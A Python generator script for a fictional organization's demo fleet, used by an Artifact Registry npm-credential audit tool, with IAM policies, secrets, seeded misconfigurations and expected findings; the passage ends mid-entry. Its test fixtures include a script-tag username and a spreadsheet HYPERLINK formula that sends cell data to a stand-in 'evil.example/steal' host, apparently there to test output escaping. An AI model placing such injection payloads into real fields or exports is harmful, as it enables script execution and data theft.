#!/usr/bin/env python3
"""Makes the bundled demo fleet: the organization acme-demo.example (organizations/510000000001) that
`app/arcred audit --demo` audits.

Writes, from the tables below (deterministic: same input, same bytes):
  app/demo-fleet.ndjson       the fleet (FLEET-FORMAT.md: one google.cloud.asset.v1.Asset per line)
  app/demo/expected.csv       repository,rule,expect: every finding each repository should raise, plus guards
  app/demo/expected-counts.csv rule,count: how many repositories raise each rule (AUDITED: how many are audited)

Do not edit the outputs by hand: change this script and run it (`python3 app/demo/make_demo_fleet.py`), then
`python3 app/demo/check_demo_fleet.py`, which re-derives the findings from the fleet alone, by RULES.md.
The story of each repository is in app/demo/README.md. All expectations assume now = 2026-12-01T00:00:00Z.
"""
import csv
import json
import os

APP = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
ORG = "510000000001"
DOMAIN = "acme-demo.example"

CRM = "//cloudresourcemanager.googleapis.com/"
SM = "//secretmanager.googleapis.com/"
AR = "//artifactregistry.googleapis.com/"

# ---------------------------------------------------------------------------------------------------------------
# Resource hierarchy. Folder id -> (displayName, parent); parent is "organizations/O" or "folders/F".
FOLDERS = {
    "511000000010": ("platform", f"organizations/{ORG}"),
    "511000000011": ("ci", "folders/511000000010"),
    "511000000020": ("engineering", f"organizations/{ORG}"),
    "511000000021": ("web", "folders/511000000020"),
    "511000000022": ("mobile", "folders/511000000020"),
    "511000000023": ("data", "folders/511000000020"),
    "511000000030": ("sandbox", f"organizations/{ORG}"),
}

# Project ID -> (number, parent): "folders/F" or "organizations/O".
PROJECTS = {
    "acme-secrets": ("520000000100", "folders/511000000010"),
    "acme-artifacts-hub": ("520000000101", "folders/511000000010"),
    "acme-ci-runners": ("520000000102", "folders/511000000011"),
    "acme-web-prod": ("520000000111", "folders/511000000021"),
    "acme-web-staging": ("520000000112", "folders/511000000021"),
    "acme-web-dev": ("520000000113", "folders/511000000021"),
    "acme-mobile-prod": ("520000000121", "folders/511000000022"),
    "acme-mobile-dev": ("520000000122", "folders/511000000022"),
    "acme-data-etl": ("520000000131", "folders/511000000023"),
    "acme-data-ml": ("520000000132", "folders/511000000023"),
    "acme-data-dashboards": ("520000000133", "folders/511000000023"),
    "acme-sandbox-alice": ("520000000141", "folders/511000000030"),
    "acme-sandbox-bob": ("520000000142", "folders/511000000030"),
    "acme-legacy-monolith": ("520000000151", f"organizations/{ORG}"),
}


def num(project_id):
    return PROJECTS[project_id][0]


def agent(project_id):
    """The Artifact Registry service agent of a project, as an IAM member."""
    return f"serviceAccount:service-{num(project_id)}@gcp-sa-artifactregistry.iam.gserviceaccount.com"


def group(name):
    return f"group:{name}@{DOMAIN}"


def user(name):
    return f"user:{name}@{DOMAIN}"


def sa(name, project_id):
    return f"serviceAccount:{name}@{project_id}.iam.gserviceaccount.com"


ACCESSOR = "roles/secretmanager.secretAccessor"
TOKEN_READER = f"organizations/{ORG}/roles/npmTokenReader"
METADATA_VIEWER = f"organizations/{ORG}/roles/secretMetadataViewer"

# Custom roles: name -> (title, description, includedPermissions).
ROLES = {
    TOKEN_READER: ("npm token reader",
                   "Reads npm upstream tokens (payload and metadata). Granted to Artifact Registry service agents.",
                   ["secretmanager.secrets.get", "secretmanager.versions.access", "secretmanager.versions.get"]),
    METADATA_VIEWER: ("Secret metadata viewer",
                      "Sees that secrets and versions exist, never their payload.",
                      ["secretmanager.secrets.get", "secretmanager.secrets.list", "secretmanager.versions.get",
                       "secretmanager.versions.list"]),
}

# Allow policies of the organization, folders and projects: key -> [(role, [members], condition or None)].
ORG_POLICY = [
    ("roles/resourcemanager.organizationAdmin", [user("cto"), group("gcp-org-admins")], None),
    ("roles/owner", [group("gcp-org-admins")], None),
    ("roles/iam.securityReviewer", [group("security-auditors")], None),
    ("roles/viewer", [group("security-auditors")], None),
    ("roles/billing.user", [group("finance")], None),
    ("roles/browser", [f"domain:{DOMAIN}"], None),
]
FOLDER_POLICIES = {
    "511000000010": [("roles/resourcemanager.folderViewer", [group("engineering")], None),
                     ("roles/owner", [group("platform-team")], None)],
    "511000000020": [("roles/editor", [group("engineering-leads")], None),
                     ("roles/viewer", [group("engineering")], None)],
    "511000000023": [("roles/bigquery.dataViewer", [group("data-analysts")], None)],
    # Alice asked for her builds to "just work": her project's agent can read every secret in the sandbox folder.
    "511000000030": [("roles/owner", [group("sandbox-users")], None),
                     (ACCESSOR, [agent("acme-sandbox-alice")], None)],
}
PROJECT_POLICIES = {
    "acme-secrets": [("roles/owner", [group("platform-team")], None),
                     ("roles/secretmanager.admin", [group("secops")], None),
                     ("roles/viewer", [group("sre")], None)],
    "acme-artifacts-hub": [("roles/owner", [group("platform-team")], None),
                           ("roles/artifactregistry.reader", [group("engineering")], None)],
    "acme-web-prod": [("roles/owner", [user("web-lead")], None),
                      ("roles/artifactregistry.writer", [sa("web-deployer", "acme-web-prod")], None),
                      ("roles/viewer", [group("web-team")], None)],
    # Someone granted Editor to the agent, believing it covers secrets: it does not hold versions.access.
    "acme-mobile-dev": [("roles/owner", [user("mobile-lead")], None),
                        ("roles/editor", [group("mobile-team"), agent("acme-mobile-dev")], None)],
    # Project-wide accessor for the agent: works, but opens every secret of the project to it.
    "acme-data-ml": [("roles/owner", [user("ml-lead")], None),
                     (ACCESSOR, [agent("acme-data-ml")], None),
                     ("roles/aiplatform.user", [group("data-scientists")], None)],
    "acme-legacy-monolith": [("roles/owner", [user("cto"), user("legacy-maintainer")], None)],
}

# ---------------------------------------------------------------------------------------------------------------
# Secrets. Key (project ID, secret ID) -> dict with createTime, versions [(n, state, createTime, extra)],
# optional expireTime / versionAliases / versionDestroyTtl / replication, and the secret's own policy.
AUTO = {"automatic": {}}
USER_MANAGED = {"userManaged": {"replicas": [{"location": "us-central1"}, {"location": "europe-west1"},
                                             {"location": "asia-east1"}]}}
CENTRAL_READERS = ["acme-artifacts-hub", "acme-ci-runners", "acme-web-prod", "acme-web-staging", "acme-web-dev",
                   "acme-mobile-prod", "acme-mobile-dev", "acme-data-etl", "acme-legacy-monolith"]
SECRETS = {
    # The org's npmjs automation token. Rotated 2026-11-16 (v4); v3 stays enabled while repositories move over.
    ("acme-secrets", "npm-token"): dict(
        createTime="2025-01-15T09:00:00Z", replication=USER_MANAGED, labels={"owner": "platform", "upstream": "npmjs"},
        versions=[(1, "DESTROYED", "2025-01-15T09:00:00Z", {"destroyTime": "2025-07-20T10:00:00Z"}),
                  (2, "DISABLED", "2025-07-01T09:00:00Z", {}),
                  (3, "ENABLED", "2026-04-01T09:00:00Z", {}),
                  (4, "ENABLED", "2026-11-16T09:00:00Z", {})],
        policy=[(ACCESSOR, [agent(p) for p in CENTRAL_READERS], None),
                ("roles/secretmanager.secretVersionManager", [sa("npm-rotator", "acme-secrets")], None)]),
    # GitHub Packages token for the @acme scope. Far-off expiry: not yet a warning.
    ("acme-secrets", "github-packages-token"): dict(
        createTime="2025-04-01T09:00:00Z", replication=USER_MANAGED, expireTime="2031-04-01T00:00:00Z",
        labels={"owner": "platform", "upstream": "github"},
        versions=[(1, "DISABLED", "2025-04-01T09:00:00Z", {}),
                  (2, "ENABLED", "2026-05-01T09:00:00Z", {})],
        policy=[(ACCESSOR, [agent(p) for p in ["acme-artifacts-hub", "acme-web-prod", "acme-web-staging",
                                               "acme-mobile-prod"]], None)]),
    # JFrog Artifactory token; teams follow the "current" alias.
    ("acme-secrets", "artifactory-npm-token"): dict(
        createTime="2025-09-01T09:00:00Z", replication=USER_MANAGED, versionAliases={"current": "2"},
        labels={"owner": "data-platform", "upstream": "artifactory"},
        versions=[(1, "ENABLED", "2025-09-01T09:00:00Z", {}),
                  (2, "ENABLED", "2026-09-01T09:00:00Z", {})],
        policy=[(ACCESSOR, [agent("acme-data-etl"), agent("acme-data-ml")], None)]),
    # A contractor's token, created with a TTL: it expires on 2026-12-20.
    ("acme-secrets", "npm-token-contractor"): dict(
        createTime="2026-06-20T09:00:00Z", replication=AUTO, expireTime="2026-12-20T00:00:00Z",
        labels={"owner": "mobile", "upstream": "npmjs"},
        versions=[(1, "ENABLED", "2026-06-20T09:00:00Z", {})],
        policy=[(ACCESSOR, [agent("acme-mobile-dev")], None)]),
    # The internal Verdaccio registry's token, read through custom roles.
    ("acme-secrets", "verdaccio-token"): dict(
        createTime="2025-11-10T09:00:00Z", replication=AUTO, labels={"owner": "platform", "upstream": "verdaccio"},
        versions=[(1, "ENABLED", "2025-11-10T09:00:00Z", {})],
        policy=[(TOKEN_READER, [agent("acme-artifacts-hub"), agent("acme-data-ml")], None),
                (METADATA_VIEWER, [agent("acme-data-dashboards"), group("data-viz")], None)]),
    # Tokens of other formats' remotes (not audited by default; both chains are broken on purpose).
    ("acme-secrets", "dockerhub-token"): dict(
        createTime="2025-02-01T09:00:00Z", replication=AUTO, labels={"owner": "platform", "upstream": "dockerhub"},
        versions=[(1, "ENABLED", "2025-02-01T09:00:00Z", {})],
        policy=[(ACCESSOR, [sa("ci-runner", "acme-ci-runners")], None)]),
    ("acme-secrets", "pypi-token"): dict(
        createTime="2025-03-01T09:00:00Z", replication=AUTO, labels={"owner": "data-platform", "upstream": "pypi"},
        versions=[(1, "DISABLED", "2025-03-01T09:00:00Z", {})],
        policy=[(ACCESSOR, [agent("acme-artifacts-hub")], None)]),
    # Per-project secrets.
    # Teams' own tokens, healthy: a partner's private registry, CI's own npm account, a commercial font registry.
    ("acme-artifacts-hub", "partner-registry-token"): dict(
        createTime="2025-06-01T09:00:00Z", replication=AUTO,
        versions=[(1, "DISABLED", "2025-06-01T09:00:00Z", {}),
                  (2, "ENABLED", "2026-06-01T09:00:00Z", {})],
        policy=[(ACCESSOR, [agent("acme-artifacts-hub")], None)]),
    ("acme-ci-runners", "npm-token-ci"): dict(
        createTime="2026-01-20T09:00:00Z", replication=AUTO,
        versions=[(1, "ENABLED", "2026-01-20T09:00:00Z", {})],
        policy=[(ACCESSOR, [agent("acme-ci-runners"), sa("ci-runner", "acme-ci-runners")], None)]),
    ("acme-web-prod", "fontawesome-token"): dict(
        createTime="2025-03-12T09:00:00Z", replication=AUTO,
        versions=[(1, "ENABLED", "2025-03-12T09:00:00Z", {})],
        policy=[(ACCESSOR, [agent("acme-web-prod")], None)]),
    ("acme-web-staging", "fontawesome-token"): dict(
        createTime="2025-03-12T09:30:00Z", replication=AUTO,
        versions=[(1, "ENABLED", "2025-03-12T09:30:00Z", {})],
        policy=[(ACCESSOR, [agent("acme-web-staging")], None)]),
    # The mobile team's own npm organization (@acme-mobile).
    ("acme-mobile-prod", "npm-token"): dict(
        createTime="2025-02-20T09:00:00Z", replication=USER_MANAGED,
        versions=[(1, "DESTROYED", "2025-02-20T09:00:00Z", {"destroyTime": "2025-12-01T09:00:00Z"}),
                  (2, "ENABLED", "2025-11-20T09:00:00Z", {})],
        policy=[(ACCESSOR, [agent("acme-mobile-prod")], None),
                ("roles/secretmanager.viewer", [group("mobile-team")], None)]),
    # The CI runners' GitHub token: the agent got Secret Version Manager (adds/disables versions, cannot read them).
    ("acme-ci-runners", "gh-packages-ci"): dict(
        createTime="2026-02-10T09:00:00Z", replication=AUTO,
        versions=[(1, "ENABLED", "2026-02-10T09:00:00Z", {})],
        policy=[(ACCESSOR, [sa("ci-runner", "acme-ci-runners")], None),
                ("roles/secretmanager.secretVersionManager", [agent("acme-ci-runners")], None)]),
    # Copied from staging's Terraform: grants the *staging* project's agent, not dev's.
    ("acme-web-dev", "npm-token"): dict(
        createTime="2026-03-05T09:00:00Z", replication=AUTO,
        versions=[(1, "ENABLED", "2026-03-05T09:00:00Z", {})],
        policy=[(ACCESSOR, [agent("acme-web-staging")], None)]),
    # Secret-level grant only for a mobile developer group; the agent has Editor on the project (no access).
    ("acme-mobile-dev", "expo-npm-token"): dict(
        createTime="2026-01-12T09:00:00Z", replication=AUTO,
        versions=[(1, "ENABLED", "2026-01-12T09:00:00Z", {})],
        policy=[(ACCESSOR, [group("mobile-team")], None)]),
    # Conditional grant, meant as temporary during a migration.
    ("acme-data-etl", "npm-token"): dict(
        createTime="2025-10-01T09:00:00Z", replication=AUTO,
        versions=[(1, "ENABLED", "2025-10-01T09:00:00Z", {})],
        policy=[(ACCESSOR, [agent("acme-data-etl")],
                 {"title": "until-2027",
                  "description": "Temporary access while ETL moves to the central token",
                  "expression": 'request.time < timestamp("2027-01-01T00:00:00Z")'})]),
    # Readable through the project-wide grant (see PROJECT_POLICIES), no secret-level binding.
    ("acme-data-ml", "npm-token"): dict(
        createTime="2025-08-18T09:00:00Z", replication=AUTO,
        versions=[(1, "ENABLED", "2025-08-18T09:00:00Z", {})],
        policy=[]),
    # v2 leaked: disabled and scheduled for destruction (delayed destruction, 30 days); v3 replaces it.
    ("acme-data-dashboards", "npm-token"): dict(
        createTime="2025-05-02T09:00:00Z", replication=AUTO, versionDestroyTtl="2592000s",
        versions=[(1, "DESTROYED", "2025-05-02T09:00:00Z", {"destroyTime": "2026-06-01T12:00:00Z"}),
                  (2, "DISABLED", "2026-06-01T09:00:00Z", {"scheduledDestroyTime": "2026-12-15T14:30:00Z"}),
                  (3, "ENABLED", "2026-11-15T14:35:00Z", {})],
        policy=[(ACCESSOR, [agent("acme-data-dashboards")], None)]),
    # Readable through the sandbox folder's grant, no secret-level binding.
    ("acme-sandbox-alice", "npm-token"): dict(
        createTime="2026-07-01T09:00:00Z", replication=AUTO,
        versions=[(1, "ENABLED", "2026-07-01T09:00:00Z", {})],
        policy=[]),
    # Bob opened his token to every Google account while debugging a 403.
    ("acme-sandbox-bob", "npm-token"): dict(
        createTime="2026-08-14T09:00:00Z", replication=AUTO,
        versions=[(1, "ENABLED", "2026-08-14T09:00:00Z", {})],
        policy=[(ACCESSOR, [agent("acme-sandbox-bob"), "allAuthenticatedUsers"], None)]),
    # A botched rotation: v2 was added, found wrong and disabled; repositories on `latest` resolve to it.
    ("acme-legacy-monolith", "npm-auth"): dict(
        createTime="2024-06-01T09:00:00Z", replication=AUTO,
        versions=[(1, "ENABLED", "2024-06-01T09:00:00Z", {}),
                  (2, "DISABLED", "2026-10-28T09:00:00Z", {})],
        policy=[(ACCESSOR, [agent("acme-legacy-monolith")], None)]),
    # (acme-secrets/npm-token-legacy was deleted in the 2026 clean-up: it has no lines.)
}

# ---------------------------------------------------------------------------------------------------------------
# Repositories. Upstreams:
NPMJS = {"npmRepository": {"publicRepository": "NPMJS"}}
GITHUB = {"npmRepository": {"customRepository": {"uri": "https://npm.pkg.github.com"}}}
VERDACCIO = {"npmRepository": {"customRepository": {"uri": "https://npm.internal.acme-demo.example/"}}}
ARTIFACTORY = {"commonRepository": {"uri": "https://acme.jfrog.io/artifactory/api/npm/npm-virtual"}}
YARN = {"commonRepository": {"uri": "https://registry.yarnpkg.com"}}
FONTAWESOME = {"npmRepository": {"customRepository": {"uri": "https://npm.fontawesome.com/"}}}
PARTNER = {"npmRepository": {"customRepository": {"uri": "https://npm.partner.example.com/"}}}

CS = "projects/acme-secrets/secrets"         # the central secrets project, by ID
CSN = f"projects/{num('acme-secrets')}/secrets"  # and by number
NPM_TOKEN = f"{CS}/npm-token/versions/4"      # the healthy reference most repositories use

SCRIPT_USERNAME = "<script>alert('demo')</script>"
FORMULA_USERNAME = '=HYPERLINK("https://evil.example/steal?d="&A1,"open")'

# (project, location, repository, upstream, username, reference, findings, guards, description).
# findings: every rule the repository must raise (empty: healthy); guards: rules it must NOT raise (traps).
NPM_REMOTES = [
    # platform: the central proxies every team is meant to use.
    ("acme-artifacts-hub", "us-central1", "npmjs-proxy", NPMJS, "acme-ci", NPM_TOKEN, [],
     ["CREDENTIALS_MISSING", "CREDENTIALS_INCOMPLETE", "SECRET_REFERENCE_INVALID", "SECRET_NOT_FOUND",
      "SECRET_VERSION_NOT_FOUND", "SECRET_VERSION_DISABLED", "SECRET_VERSION_DESTROYED",
      "SECRET_VERSION_DESTROY_SCHEDULED", "SECRET_EXPIRING", "SECRET_VERSION_FLOATING",
      "SECRET_VERSION_SUPERSEDED", "SECRET_PUBLIC", "SERVICE_AGENT_NO_ACCESS",
      "SERVICE_AGENT_CONDITIONAL_ACCESS", "SERVICE_AGENT_BROAD_ACCESS", "CHECK_ERROR"],
     "Org-wide npmjs proxy (read-only automation token)"),
    ("acme-artifacts-hub", "europe-west1", "npmjs-proxy", NPMJS, "acme-ci", f"{CSN}/npm-token/versions/4", [], [],
     "Org-wide npmjs proxy, EU"),
    ("acme-artifacts-hub", "asia-east1", "npmjs-proxy", NPMJS, "acme-ci", NPM_TOKEN, [], [],
     "Org-wide npmjs proxy, APAC"),
    ("acme-artifacts-hub", "us-central1", "github-acme", GITHUB, "acme-bot", f"{CS}/github-packages-token/versions/2",
     [], ["SECRET_EXPIRING"], "@acme packages on GitHub Packages"),
    ("acme-artifacts-hub", "us-central1", "verdaccio-internal", VERDACCIO, "registry-reader",
     f"{CS}/verdaccio-token/versions/1", [], ["SERVICE_AGENT_NO_ACCESS", "SERVICE_AGENT_BROAD_ACCESS"],
     "Internal Verdaccio registry (agent reads it through the npmTokenReader custom role)"),
    ("acme-artifacts-hub", "europe-west1", "github-acme", GITHUB, "acme-bot", f"{CS}/github-packages-token/versions/2",
     [], [], "@acme packages on GitHub Packages, EU"),
    ("acme-artifacts-hub", "us-central1", "partner-registry", PARTNER, "acme-partner",
     "projects/acme-artifacts-hub/secrets/partner-registry-token/versions/2", [], [], "Partner SDKs"),
    ("acme-artifacts-hub", "europe-west1", "partner-registry", PARTNER, "acme-partner",
     f"projects/{num('acme-artifacts-hub')}/secrets/partner-registry-token/versions/2", [], [], "Partner SDKs, EU"),
    # platform/ci
    ("acme-ci-runners", "us-central1", "npmjs-ci", NPMJS, "acme-ci", NPM_TOKEN, [], [], "npmjs for CI builds"),
    ("acme-ci-runners", "europe-west1", "npmjs-ci", NPMJS, "acme-ci", f"{CSN}/npm-token/versions/4", [], [],
     "npmjs for CI builds, EU runners"),
    ("acme-ci-runners", "us-east1", "npmjs-ci", NPMJS, "acme-ci-runners",
     "projects/acme-ci-runners/secrets/npm-token-ci/versions/1", [], [], "npmjs for CI builds (CI's own npm account)"),
    ("acme-ci-runners", "asia-east1", "npmjs-ci", NPMJS, "acme-ci-runners",
     "projects/acme-ci-runners/secrets/npm-token-ci/versions/1", [], [], "npmjs for CI builds, APAC runners"),
    ("acme-ci-runners", "us-central1", "github-ci", GITHUB, "ci-bot",
     "projects/acme-ci-runners/secrets/gh-packages-ci/versions/1", ["SERVICE_AGENT_NO_ACCESS"],
     ["SERVICE_AGENT_BROAD_ACCESS"], "GitHub Packages for CI builds"),
    # engineering/web
    ("acme-web-prod", "us-central1", "npmjs-proxy", NPMJS, "acme-ci", NPM_TOKEN, [], [], "Storefront builds"),
    ("acme-web-prod", "europe-west1", "npmjs-proxy", NPMJS, "acme-ci", f"{CSN}/npm-token/versions/4", [], [],
     "Storefront builds, EU"),
    ("acme-web-prod", "asia-east1", "npmjs-proxy", NPMJS, "acme-ci", NPM_TOKEN, [], [], "Storefront builds, APAC"),
    ("acme-web-prod", "us-central1", "github-acme", GITHUB, "acme-bot", f"{CS}/github-packages-token/versions/2",
     [], [], "@acme packages"),
    ("acme-web-prod", "europe-west1", "github-acme", GITHUB, "acme-bot", f"{CS}/github-packages-token/versions/2",
     [], [], "@acme packages, EU"),
    ("acme-web-prod", "us-central1", "fontawesome-pro", FONTAWESOME, "acme-web",
     "projects/acme-web-prod/secrets/fontawesome-token/versions/1", [], [], "Font Awesome Pro"),
    ("acme-web-prod", "europe-west1", "fontawesome-pro", FONTAWESOME, "acme-web",
     "projects/acme-web-prod/secrets/fontawesome-token/versions/1", [], [], "Font Awesome Pro, EU"),
    ("acme-web-prod", "asia-east1", "fontawesome-pro", FONTAWESOME, "acme-web",
     f"projects/{num('acme-web-prod')}/secrets/fontawesome-token/versions/1", [], [], "Font Awesome Pro, APAC"),
    ("acme-web-prod", "us-central1", "npmjs-checkout", NPMJS, "acme-ci", f"{CS}/npm-token/versions/3",
     ["SECRET_VERSION_SUPERSEDED"], ["SECRET_VERSION_DISABLED", "SERVICE_AGENT_NO_ACCESS"],
     "Checkout service builds (missed by the November rotation)"),
    ("acme-web-staging", "us-central1", "npmjs-proxy", NPMJS, "acme-ci", NPM_TOKEN, [], [], "Staging builds"),
    ("acme-web-staging", "europe-west1", "npmjs-proxy", NPMJS, FORMULA_USERNAME, f"{CS}/npm-token/versions/3",
     ["SECRET_VERSION_SUPERSEDED"], ["SERVICE_AGENT_NO_ACCESS"], "Staging builds, EU"),
    ("acme-web-staging", "us-central1", "github-acme", GITHUB, "acme-bot", f"{CS}/github-packages-token/versions/2",
     [], [], "@acme packages, staging"),
    ("acme-web-staging", "europe-west1", "github-acme", GITHUB, "acme-bot", f"{CS}/github-packages-token/versions/2",
     [], [], "@acme packages, staging EU"),
    ("acme-web-staging", "us-central1", "fontawesome-pro", FONTAWESOME, "acme-web",
     "projects/acme-web-staging/secrets/fontawesome-token/versions/1", [], [], "Font Awesome Pro, staging"),
    ("acme-web-staging", "asia-east1", "npmjs-proxy", NPMJS, "acme-ci", f"{CS}/npm-token/versions/latest",
     ["SECRET_VERSION_FLOATING"], ["SECRET_VERSION_DISABLED", "SECRET_VERSION_NOT_FOUND", "SECRET_VERSION_SUPERSEDED"],
     "Staging builds, APAC (follows latest)"),
    ("acme-web-staging", "us-central1", "npm-username-only", NPMJS, "acme-ci", None,
     ["CREDENTIALS_INCOMPLETE"], ["CREDENTIALS_MISSING", "SECRET_NOT_FOUND"], "Half-configured in the console"),
    ("acme-web-dev", "us-central1", "npmjs-proxy", NPMJS, "acme-ci", "projects/acme-web-dev/secrets/npm-token/versions/1",
     ["SERVICE_AGENT_NO_ACCESS"], [], "Dev builds (secret policy copied from staging)"),
    ("acme-web-dev", "us-central1", "npm-anonymous", NPMJS, None, None,
     ["CREDENTIALS_MISSING"], ["SERVICE_AGENT_NO_ACCESS", "SECRET_NOT_FOUND", "CREDENTIALS_INCOMPLETE"],
     "Anonymous npmjs: rate-limited"),
    ("acme-web-dev", "us-central1", "github-direct", GITHUB, None, None,
     ["CREDENTIALS_MISSING"], [], "GitHub Packages without a token"),
    ("acme-web-dev", "europe-west1", "npmjs-proxy", NPMJS, "acme-ci", NPM_TOKEN, [], [], "Dev builds, EU"),
    ("acme-web-dev", "asia-east1", "npmjs-proxy", NPMJS, "acme-ci", f"{CS}/npm-token/versions/0",
     ["SECRET_REFERENCE_INVALID"], ["SECRET_NOT_FOUND", "SECRET_VERSION_NOT_FOUND", "SERVICE_AGENT_NO_ACCESS"],
     "Dev builds, APAC"),
    # engineering/mobile
    ("acme-mobile-prod", "us-central1", "npmjs-proxy", NPMJS, "acme-ci", NPM_TOKEN, [], [], "App builds"),
    ("acme-mobile-prod", "asia-east1", "npmjs-proxy", NPMJS, "acme-ci", f"{CSN}/npm-token/versions/4", [], [],
     "App builds, APAC"),
    ("acme-mobile-prod", "us-central1", "github-acme", GITHUB, "acme-bot", f"{CS}/github-packages-token/versions/2",
     [], [], "@acme packages for the apps"),
    ("acme-mobile-prod", "us-central1", "npmjs-mobile-org", NPMJS, "acme-mobile",
     "projects/acme-mobile-prod/secrets/npm-token/versions/2", [], ["SECRET_VERSION_DESTROYED"], "@acme-mobile packages"),
    ("acme-mobile-prod", "us-east1", "npmjs-mobile-org", NPMJS, "acme-mobile",
     "projects/acme-mobile-prod/secrets/npm-token/versions/2", [], [], "@acme-mobile packages, us-east1"),
    ("acme-mobile-prod", "europe-west1", "npmjs-mobile-org", NPMJS, "acme-mobile",
     f"projects/{num('acme-mobile-prod')}/secrets/npm-token/versions/2", [], [], "@acme-mobile packages, EU"),
    ("acme-mobile-prod", "asia-east1", "npmjs-mobile-org", NPMJS, "acme-mobile",
     "projects/acme-mobile-prod/secrets/npm-token/versions/2", [], [], "@acme-mobile packages, APAC"),
    ("acme-mobile-prod", "europe-west1", "npmjs-proxy", NPMJS, "acme-ci", f"{CS}/npm-token/versions/2",
     ["SECRET_VERSION_DISABLED"], ["SECRET_VERSION_SUPERSEDED", "SECRET_VERSION_DESTROY_SCHEDULED"],
     "App builds, EU"),
    ("acme-mobile-dev", "us-central1", "npmjs-expo", NPMJS, "expo-ci",
     "projects/acme-mobile-dev/secrets/expo-npm-token/versions/1", ["SERVICE_AGENT_NO_ACCESS"],
     ["SERVICE_AGENT_BROAD_ACCESS"], "Expo builds"),
    ("acme-mobile-dev", "us-central1", "npmjs-contractor", NPMJS, "contractor-ci",
     f"{CS}/npm-token-contractor/versions/1", ["SECRET_EXPIRING"], [], "Contractor team builds"),
    ("acme-mobile-dev", "asia-east1", "npmjs-proxy", NPMJS, "acme-ci", f"{CS}/npm-token/versions/1",
     ["SECRET_VERSION_DESTROYED"], ["SECRET_VERSION_NOT_FOUND"], "Old APAC proxy, forgotten"),
    ("acme-mobile-dev", "us-central1", "npmjs-proxy", NPMJS, "acme-ci", NPM_TOKEN, [],
     ["SECRET_VERSION_SUPERSEDED"], "Dev app builds"),
    ("acme-mobile-dev", "europe-west1", "npmjs-proxy", NPMJS, "acme-ci", f"{CSN}/npm-token/versions/4", [], [],
     "Dev app builds, EU"),
    # engineering/data
    ("acme-data-etl", "us-central1", "npmjs-proxy", NPMJS, "etl-ci", "projects/acme-data-etl/secrets/npm-token/versions/1",
     ["SERVICE_AGENT_CONDITIONAL_ACCESS"], ["SERVICE_AGENT_NO_ACCESS"], "ETL job builds"),
    ("acme-data-etl", "europe-west1", "artifactory-npm", ARTIFACTORY, "etl-reader",
     f"{CS}/artifactory-npm-token/versions/current", ["SECRET_VERSION_FLOATING"],
     ["SECRET_VERSION_NOT_FOUND", "SECRET_VERSION_SUPERSEDED"], "Artifactory npm virtual (follows the current alias)"),
    ("acme-data-etl", "us-central1", "artifactory-npm", ARTIFACTORY, "etl-reader",
     f"{CS}/artifactory-npm-token/versions/stable", ["SECRET_VERSION_FLOATING", "SECRET_VERSION_NOT_FOUND"],
     ["SERVICE_AGENT_NO_ACCESS"], "Artifactory npm virtual"),
    ("acme-data-etl", "europe-west1", "npmjs-proxy", NPMJS, "acme-ci", NPM_TOKEN, [], [], "ETL job builds, EU"),
    ("acme-data-etl", "us-east1", "npmjs-proxy", NPMJS, "acme-ci", NPM_TOKEN, [], [], "ETL job builds, us-east1"),
    ("acme-data-etl", "asia-east1", "npmjs-proxy", NPMJS, "acme-ci",
     "projects/acme-secrets/locations/asia-east1/secrets/npm-token/versions/4", ["SECRET_REFERENCE_INVALID"],
     ["SECRET_NOT_FOUND"], "ETL job builds, APAC"),
    ("acme-data-ml", "us-central1", "npmjs-proxy", NPMJS, "ml-ci", "projects/acme-data-ml/secrets/npm-token/versions/1",
     ["SERVICE_AGENT_BROAD_ACCESS"], ["SERVICE_AGENT_NO_ACCESS"], "Notebook image builds"),
    ("acme-data-ml", "asia-east1", "npmjs-proxy", NPMJS, "ml-ci", f"projects/{num('acme-data-ml')}/secrets/npm-token/versions/1",
     ["SERVICE_AGENT_BROAD_ACCESS"], [], "Notebook image builds, APAC"),
    ("acme-data-ml", "us-central1", "verdaccio-internal", VERDACCIO, "ml-reader", f"{CS}/verdaccio-token/versions/1",
     [], ["SERVICE_AGENT_NO_ACCESS"], "Internal Verdaccio registry"),
    ("acme-data-ml", "europe-west1", "artifactory-npm", ARTIFACTORY, "ml-reader",
     f"{CS}/artifactory-npm-token/versions/2", [], [], "Artifactory npm virtual"),
    ("acme-data-dashboards", "us-central1", "npmjs-proxy", NPMJS, "acme-ci", NPM_TOKEN,
     ["SERVICE_AGENT_NO_ACCESS"], [], "Dashboard builds (new project, never added to the token's policy)"),
    ("acme-data-dashboards", "us-central1", "verdaccio-internal", VERDACCIO, "viz-reader",
     f"{CS}/verdaccio-token/versions/1", ["SERVICE_AGENT_NO_ACCESS"], [],
     "Internal Verdaccio mirror for <b>dashboards</b> builds"),
    ("acme-data-dashboards", "europe-west1", "npmjs-proxy", NPMJS, "viz-ci",
     "projects/acme-data-dashboards/secrets/npm-token/versions/2",
     ["SECRET_VERSION_DISABLED", "SECRET_VERSION_DESTROY_SCHEDULED"],
     ["SECRET_VERSION_DESTROYED", "SECRET_VERSION_SUPERSEDED"], "Dashboard builds, EU"),
    ("acme-data-dashboards", "asia-east1", "npmjs-proxy", NPMJS, "viz-ci",
     f"projects/{num('acme-data-dashboards')}/secrets/npm-token/versions/3", [], [], "Dashboard builds, APAC"),
    ("acme-data-dashboards", "us-east1", "npmjs-proxy", NPMJS, "viz-ci",
     "projects/acme-data-dashboards/secrets/npm-token/versions/3", [], ["SECRET_VERSION_DESTROY_SCHEDULED"],
     "Dashboard builds, us-east1 (already on the replacement token)"),
    # sandbox
    ("acme-sandbox-alice", "us-central1", "npmjs-proxy", NPMJS, "alice",
     "projects/acme-sandbox-alice/secrets/npm-token/versions/1", ["SERVICE_AGENT_BROAD_ACCESS"],
     ["SERVICE_AGENT_NO_ACCESS"], "Alice's experiments"),
    ("acme-sandbox-alice", "europe-west1", "npmjs-latest", NPMJS, "alice",
     "projects/acme-sandbox-alice/secrets/npm-token/versions/latest",
     ["SECRET_VERSION_FLOATING", "SERVICE_AGENT_BROAD_ACCESS"], ["SERVICE_AGENT_NO_ACCESS"], "Alice's experiments, EU"),
    ("acme-sandbox-bob", "us-central1", "npmjs-proxy", NPMJS, "bob", "projects/acme-sandbox-bob/secrets/npm-token/versions/1",
     ["SECRET_PUBLIC"], ["SERVICE_AGENT_NO_ACCESS"], "Bob's experiments"),
    ("acme-sandbox-bob", "us-central1", "npm-script-test", NPMJS, SCRIPT_USERNAME, None,
     ["CREDENTIALS_INCOMPLETE"], ["CREDENTIALS_MISSING"], "Bob testing the console's input validation"),
    ("acme-sandbox-bob", "europe-west1", "npmjs-proxy", NPMJS, "bob", "npm-token",
